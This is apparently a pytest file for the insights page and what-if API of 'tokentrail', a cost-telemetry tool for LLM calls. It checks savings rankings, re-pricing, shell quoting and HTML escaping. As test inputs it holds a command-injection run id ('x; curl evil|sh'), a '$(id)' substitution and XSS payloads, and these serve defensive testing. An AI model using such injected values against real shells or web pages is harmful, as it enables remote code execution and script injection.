"""The insights page, its JSON twin and /api/whatif over a real embedded store fed
through the collector: findings ranked by savings, each with the what-if behind its
number (the link answers the finding's own calls and savings), checked against a
re-pricing from the published rates; escaping of telemetry."""

from __future__ import annotations

import html as htmllib
import itertools
import re
import shlex
from collections.abc import Iterator
from datetime import datetime, timedelta, timezone

import pytest

from tests.analysis.insights_agents import BATCH, Call, cost, price
from tests.otlp import NOW_NS
from tests.web.ui_agents import (
    HAIKU,
    IMG,
    SCRIPT,
    SONNET,
    assert_escaped,
    ingest,
    single,
    ui,
)
from tokentrail.store import Store
from tokentrail.web.formatting import segment, usd
from tokentrail.web.routers import insights as insights_router

REL = 1e-9
OPUS = "claude-opus-4-5"
NOW = datetime.fromtimestamp(NOW_NS / 1e9, timezone.utc)
# Whole UTC days: the insights count a run's day when its first call of the day lies in
# the range, a what-if every call in [start, end); over whole days they are the same.
TODAY = NOW.replace(hour=0, minute=0, second=0, microsecond=0)
RANGE = {"start": (TODAY - timedelta(days=7)).isoformat(),
         "end": (TODAY + timedelta(days=2)).isoformat()}

# uncached_prefix: a 40k-token prompt re-sent on 6 turns 30 s apart, nothing cached.
SEED = [Call("seed", k, at=30.0 * k, uncached=40_000 + 500 * k, output=200,
             service="prefix", model=SONNET) for k in range(1, 7)]
# batch_candidate: 12 independent single-call runs of a service with a hostile name;
# the costliest run has a hostile id (so it is among the examples).
QUEUE = [Call(IMG if i == 11 else f"q-{i:02d}", 1, at=5.0 * i, uncached=2000 + 10 * i,
              output=60, service=SCRIPT, model=HAIKU) for i in range(12)]
# unread_cache_writes: three 5m writes ten minutes apart that no call reads.
UNREAD = [Call(f"w-{i}", 1, at=600.0 * i, w5=5000, uncached=10, output=20, service="writer")
          for i in range(3)]
# A service with batch and routing candidates beside calls its rules do not count: 24
# single-call runs of short answers on Sonnet (batchable, mechanical), the orchestrator's
# own 2-call run with long answers (neither), and 2 single-call runs on Opus (another
# model: too few for a finding of their own). A what-if over the whole service would
# re-price 28 calls; each finding counts 24.
FANOUT = "fan-out"
LEAVES = [c for i in range(24) for c in single(f"leaf-{i:02d}", at=1000.0 + 10 * i,
                                               service=FANOUT, model=SONNET, uncached=3000)]
ORCHESTRATOR = [Call("orchestrator", k, at=990.0 + 300 * k, uncached=5000 * k, output=1500,
                     service=FANOUT) for k in (1, 2)]
ON_OPUS = [c for i in range(2) for c in single(f"opus-{i}", at=1500.0 + 10 * i,
                                               service=FANOUT, model=OPUS)]
# ttl_too_short (and unread_cache_writes): a 5m entry written again after 10-minute gaps.
PAUSED = [Call("paused", k, at=2000.0 + 600 * k, w5=5000, uncached=10, output=300,
               service="paused") for k in range(1, 4)]
# growing_uncached_input: a cached prefix read while the uncached input grows.
GROWING = [Call("growing", k, at=3000.0 + 30 * k, read=2000, uncached=1000 * k, output=300,
                service="growing") for k in range(1, 5)]
# context_growth (and uncached_prefix): input past 100k tokens, three calls after it.
LONG = [Call("long", k, at=4000.0 + 30 * k, uncached=110_000 + 5000 * k, output=300,
             service="long") for k in range(1, 5)]
OTHERS = LEAVES + ORCHESTRATOR + ON_OPUS + PAUSED + GROWING + LONG

# A run id a shell would run as two commands: an uncached_prefix run 20 days back, out of
# RANGE, so the page's copy-paste `tokentrail whatif --run ...` has to quote it.
SHELLISH = "x; curl evil|sh"
SHELLISH_AT = -20 * 86400.0
SHELL = [Call(SHELLISH, k, at=SHELLISH_AT + 30.0 * k, uncached=40_000 + 500 * k, output=200,
              service="prefix", model=SONNET) for k in range(1, 7)]
SHELL_RANGE = {"start": (NOW + timedelta(seconds=SHELLISH_AT - 3600)).isoformat(),
               "end": (NOW + timedelta(seconds=SHELLISH_AT + 3600)).isoformat()}


def seed_alternative() -> float:
    """SEED re-priced with caching: turn 1 writes its prompt (5m), every later turn
    reads the previous prompt and writes what was added (README, uncached_prefix)."""
    alt = price(SONNET, w5=SEED[0].total_in, output=SEED[0].output)
    for prev, c in itertools.pairwise(SEED):
        alt += price(SONNET, read=prev.total_in, w5=c.total_in - prev.total_in, output=c.output)
    return alt


@pytest.fixture(scope="module")
def client(tmp_path_factory) -> Iterator:
    store = Store.open(f"chdb://{tmp_path_factory.mktemp('insights') / 'data'}")
    try:
        ingest(store, SEED + QUEUE + UNREAD + SHELL + OTHERS)
        with ui(store) as c:
            yield c
    finally:
        store.close()


@pytest.fixture(scope="module")
def data(client) -> dict:
    response = client.get("/api/insights", params=RANGE)
    assert response.status_code == 200, response.text
    return response.json()


@pytest.fixture(scope="module")
def page(client) -> str:
    response = client.get("/insights", params=RANGE)
    assert response.status_code == 200, response.text
    return response.text


def finding(data: dict, kind: str, service: str | None = None) -> dict:
    hits = [f for f in data["findings"] if f["kind"] == kind
            and service in (None, f["service_name"])]
    assert len(hits) == 1, [(f["kind"], f["service_name"]) for f in data["findings"]]
    return hits[0]


def test_findings_ranked_by_savings(data):
    savings = [f["savings_usd"] for f in data["findings"]]
    assert savings == sorted(savings, reverse=True)
    assert sorted((f["kind"], f["service_name"]) for f in data["findings"]) == sorted([
        ("uncached_prefix", "prefix"), ("batch_candidate", SCRIPT),
        ("unread_cache_writes", "writer"), ("batch_candidate", FANOUT),
        ("model_routing_candidate", FANOUT), ("ttl_too_short", "paused"),
        ("unread_cache_writes", "paused"), ("growing_uncached_input", "growing"),
        ("context_growth", "long"), ("uncached_prefix", "long")])
    # Findings overlap (one run can be uncached_prefix and context_growth, one service's
    # calls batch and routing candidates): the page's headline is the largest one, never
    # their sum.
    assert data["largest_savings_usd"] == pytest.approx(max(savings))
    assert "total_savings_usd" not in data


def test_the_headline_is_the_largest_finding_not_a_sum(page, data):
    savings = [f["savings_usd"] for f in data["findings"]]
    headline = text(re.search(r'<p class="headline">(.*?)</p>', page, re.S).group(1))
    assert usd(max(savings)) in headline and "overlap" in headline
    assert usd(sum(savings)) not in headline


def test_first_and_last_seen_are_utc_with_an_offset(data):
    f = finding(data, "uncached_prefix", "prefix")
    first, last = (datetime.fromisoformat(f[k]) for k in ("first_seen", "last_seen"))
    assert first.utcoffset() == last.utcoffset() == timedelta(0), (first, last)
    # Stored at millisecond precision: the first and last calls of SEED.
    assert abs(first - (NOW + timedelta(seconds=SEED[0].at))) < timedelta(milliseconds=1)
    assert abs(last - (NOW + timedelta(seconds=SEED[-1].at))) < timedelta(milliseconds=1)


def test_the_whatif_command_is_shell_quoted(client):
    """The copy-paste command line splits, as a shell would, into the same arguments:
    a run id with `;` and `|` stays one argument instead of running `curl evil|sh`."""
    page = client.get("/insights", params=SHELL_RANGE).text
    (body,) = [b for kind, b in articles(page) if kind == "uncached_prefix"]
    line = text(re.search(r'<code class="whatif-command">(.*?)</code>', body, re.S).group(1))
    args = shlex.split(line)
    assert args[:8] == ["tokentrail", "whatif", "cache_prefix", "--run", SHELLISH,
                        "--only-model", SONNET, "--only-candidates"], line
    assert args[8::2] == ["--start", "--end"] and len(args) == 12, line
    service = insights_router.whatif_command("batch", insights_router.time_range(
        None, None, "7d"), service=SCRIPT + " $(id)")
    assert shlex.split(service)[3:5] == ["--service", SCRIPT + " $(id)"]


def test_uncached_prefix_with_its_whatif(data):
    f = finding(data, "uncached_prefix", "prefix")
    actual = sum(cost(c) for c in SEED)
    assert (f["scope"], f["service_name"], f["model"], f["run_ids"], f["calls"]) == (
        "run", "prefix", SONNET, ["seed"], 6)
    assert f["cost_usd"] == pytest.approx(actual, rel=REL)
    assert f["savings_usd"] == pytest.approx(actual - seed_alternative(), rel=REL)
    w = f["whatif"]
    assert (w["scenario"], w["run"], w["service"], w["only_model"], w["calls"]) == (
        "cache_prefix", "seed", "", SONNET, 6)
    assert w["cost_usd"] == pytest.approx(actual, rel=REL)
    assert w["whatif_cost_usd"] == pytest.approx(seed_alternative(), rel=REL)
    assert w["savings_usd"] == pytest.approx(f["savings_usd"], rel=REL)
    assert f["whatif_url"].startswith("/api/whatif?scenario=cache_prefix&")


def test_batch_candidate_with_its_whatif(data, client):
    f = finding(data, "batch_candidate", SCRIPT)
    actual = sum(cost(c) for c in QUEUE)
    batched = sum(cost(c, factor=BATCH) for c in QUEUE)
    assert (f["scope"], f["service_name"], f["calls"]) == ("service", SCRIPT, 12)
    assert f["savings_usd"] == pytest.approx(actual - batched, rel=REL)
    assert f["run_ids"][0] == IMG  # the costliest first
    w = f["whatif"]
    assert (w["scenario"], w["service"], w["run"], w["only_model"], w["calls"]) == (
        "batch", SCRIPT, "", HAIKU, 12)
    assert w["whatif_cost_usd"] == pytest.approx(batched, rel=REL)
    # The link behind the number answers the same totals.
    assert client.get(f["whatif_url"]).json()["savings_usd"] == pytest.approx(w["savings_usd"])


def test_the_service_findings_count_only_their_rules_calls(data):
    """The fan-out service's batch and routing findings are the 24 leaves, not the
    orchestrator's calls nor those on Opus, re-priced here from the published rates."""
    leaves = sum(cost(c) for c in LEAVES)
    batch = finding(data, "batch_candidate", FANOUT)
    assert (batch["model"], batch["calls"]) == (SONNET, 24)
    assert batch["savings_usd"] == pytest.approx(
        leaves - sum(cost(c, factor=BATCH) for c in LEAVES), rel=REL)
    routing = finding(data, "model_routing_candidate", FANOUT)
    assert (routing["model"], routing["calls"]) == (SONNET, 24)
    assert routing["savings_usd"] == pytest.approx(
        leaves - sum(cost(c, model=HAIKU) for c in LEAVES), rel=REL)


def test_each_whatif_link_answers_its_finding(data, client):
    """The what-if behind each number is the number: /api/whatif with the finding's
    link (its run or service, model, and only the calls its rule counts) re-prices the
    finding's calls, cost and savings, and shows the same totals as the finding's own
    what-if. Fails where a what-if re-prices more of the service than the rule counts."""
    checked = []
    for f in data["findings"]:
        if not f["whatif_url"]:
            continue
        response = client.get(f["whatif_url"])
        assert response.status_code == 200, response.text
        w = response.json()
        where = (f["kind"], f["service_name"], f["model"])
        assert w["calls"] == f["calls"] == f["whatif"]["calls"], where
        for key in ("cost_usd", "savings_usd"):
            assert w[key] == pytest.approx(f[key], rel=REL), (where, key)
            assert f["whatif"][key] == pytest.approx(f[key], rel=REL), (where, key)
        assert w["whatif_cost_usd"] == pytest.approx(f["whatif"]["whatif_cost_usd"], rel=REL)
        checked.append(f["kind"])
    assert sorted(set(checked)) == sorted(set(insights_router.SCENARIO_OF_KIND) - {
        "context_dead_weight"}), checked  # dead weight: tests/analysis/test_insights_dead_weight


def test_unread_cache_writes_with_its_whatif(data):
    f = finding(data, "unread_cache_writes", "writer")
    assert f["whatif"]["scenario"] == "unread_writes" and "uncached input" in f["basis"]
    written = sum(cost(c) for c in UNREAD)
    as_input = sum(price(SONNET, uncached=c.uncached + c.w5, output=c.output) for c in UNREAD)
    assert f["savings_usd"] == pytest.approx(written - as_input, rel=REL)


def test_every_kind_has_a_whatif_or_says_how_it_was_computed():
    for kind in insights_router.KINDS:
        assert kind in insights_router.SCENARIO_OF_KIND or insights_router.BASIS_OF_KIND[kind]


def articles(page: str) -> list[tuple[str, str]]:
    return re.findall(r'<article class="insight" data-kind="([^"]+)"[^>]*>(.*?)</article>',
                      page, re.S)


def text(markup: str) -> str:
    return htmllib.unescape(re.sub(r"<[^>]+>", "", markup)).strip()


def test_the_page_shows_each_finding_as_the_json_does(page, data):
    shown = articles(page)
    assert [k for k, _ in shown] == [f["kind"] for f in data["findings"]]
    for (_, body), f in zip(shown, data["findings"], strict=True):
        assert text(re.search(r'<span class="savings">(.*?)</span>', body).group(1)) \
            == f"save {usd(f['savings_usd'])}"
        for css, value in (("scope", f["scope"]), ("calls", str(f["calls"])),
                           ("cost", usd(f["cost_usd"])), ("confidence",
                                                          f["confidence"].replace("_", " "))):
            assert text(re.search(rf'<dd class="{css}[^"]*">(.*?)</dd>', body).group(1)) \
                == value, css
        assert htmllib.escape(f["detail"], quote=False) in body.replace("&#39;", "'")
        links = re.findall(r'<a class="run-link" href="/runs/([^"]*)">', body)
        assert links == [segment(run) for run in f["run_ids"]]
        if f["whatif"]:
            w = f["whatif"]
            assert f'<code class="scenario">{w["scenario"]}</code>' in body
            assert text(re.search(r'class="num whatif-calls">(.*?)<', body).group(1)) \
                == str(f["calls"])
            assert text(re.search(r'class="num whatif-savings">(.*?)<', body).group(1)) \
                == usd(w["savings_usd"])
            assert text(re.search(r'class="num whatif-alt">(.*?)<', body).group(1)) \
                == usd(w["whatif_cost_usd"])
        else:
            assert "How the number was computed" in body


def test_telemetry_is_escaped(page):
    assert_escaped(page)
    (batch,) = [body for kind, body in articles(page)
                if kind == "batch_candidate" and "&lt;script&gt;" in body]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in batch       # the service
    assert 'href="/runs/%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E"' in batch
    assert "&#34;&gt;&lt;img src=x onerror=alert(1)&gt;" in batch  # the run id as text


def test_kind_filter(client):
    only = client.get("/api/insights", params={**RANGE, "kind": "batch_candidate"}).json()
    assert [f["kind"] for f in only["findings"]] == ["batch_candidate"] * 2
    html = client.get("/insights", params={**RANGE, "kind": "ttl_too_short"}).text
    assert [k for k, _ in articles(html)] == ["ttl_too_short"]
    response = client.get("/api/insights", params={**RANGE, "kind": "cheap_tricks"})
    assert response.status_code == 422 and "unknown kind" in response.text


def test_whatif_api(client):
    def whatif(**params) -> dict:
        response = client.get("/api/whatif", params={**RANGE, **params})
        assert response.status_code == 200, response.text
        return response.json()

    on_haiku = whatif(scenario="model", run="seed", model=HAIKU)
    assert on_haiku["cost_usd"] == pytest.approx(sum(cost(c) for c in SEED), rel=REL)
    assert on_haiku["whatif_cost_usd"] == pytest.approx(
        sum(cost(c, model=HAIKU) for c in SEED), rel=REL)
    fleet = whatif(scenario="batch")
    everything = SEED + QUEUE + UNREAD + OTHERS
    assert (fleet["calls"], fleet["runs"]) == (
        len(everything), len({c.run for c in everything}))
    assert fleet["whatif_cost_usd"] == pytest.approx(
        sum(cost(c, factor=BATCH) for c in everything), rel=REL)
    assert whatif(scenario="batch", service="nobody")["calls"] == 0
    # Narrowed to a model, and to the calls the batch rule counts (single-call runs).
    on_opus = whatif(scenario="batch", service=FANOUT, only_model=OPUS)
    assert (on_opus["calls"], on_opus["only_model"]) == (2, OPUS)
    whole = whatif(scenario="batch", service=FANOUT)  # what the page showed before
    assert whole["calls"] == len(LEAVES + ORCHESTRATOR + ON_OPUS) == 28
    candidates = whatif(scenario="batch", service=FANOUT, only_candidates="true")
    assert (candidates["calls"], candidates["runs"]) == (26, 26)  # not the orchestrator's
    for params, says in (({"scenario": "cheaper"}, "batch"), ({}, "scenario"),
                         ({"scenario": "batch", "start": "soon"}, "ISO 8601"),
                         ({"scenario": "compaction", "compact_to": "0"}, "greater")):
        response = client.get("/api/whatif", params=params)
        assert response.status_code == 422 and says in response.text, params


def test_an_empty_range_says_so(client):
    html = client.get("/insights", params={"start": "2020-01-01", "end": "2020-01-02"}).text
    assert "No findings between" in html and not articles(html)


def test_openapi_documents_the_insights_twins(client):
    schema = client.get("/api/openapi.json").json()["components"]["schemas"]
    assert {"savings_usd", "whatif", "basis", "run_ids", "detail", "fix"} <= set(
        schema["Finding"]["properties"])
    assert {"scenario", "cost_usd", "whatif_cost_usd", "savings_usd"} <= set(
        schema["WhatIf"]["properties"])
